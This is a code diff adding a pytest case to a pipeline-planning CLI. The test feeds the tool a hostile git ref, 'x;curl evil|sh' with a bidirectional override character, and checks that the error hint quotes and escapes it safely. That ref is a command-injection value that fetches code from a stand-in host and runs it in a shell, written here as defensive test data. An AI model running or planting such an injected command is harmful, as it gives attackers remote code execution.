@@ -114,3 +114,16 @@ def test_a_base_that_does_not_load_counts_as_absent(
     assert done.code == 0, done.err
     assert "0 changed, 1 added" in done.out
     assert "could not be planned" in done.out and "broken&#58;pipelines/a.yaml" in done.out
+
+
+def test_a_hostile_ref_is_quoted_in_the_hint_and_shown_escaped(
+        repo: Path, capsys: pytest.CaptureFixture[str],
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """Promise: the commands a hint suggests are safe to paste whatever ref was given,
+    and a bidirectional override cannot reorder what the terminal shows."""
+    hostile = "x;curl evil|sh\u202e"
+    done = cli(capsys, monkeypatch, repo, "plan", "pipelines", "--base", hostile)
+    assert done.code == 2, done.err
+    assert "\u202e" not in done.err and "\\u202e" in done.err
+    assert "`git fetch origin 'x;curl evil|sh\\u202e'`" in done.err, done.err
+    assert done.err.startswith("error: --base 'x;curl evil|sh\\u202e': no such commit")
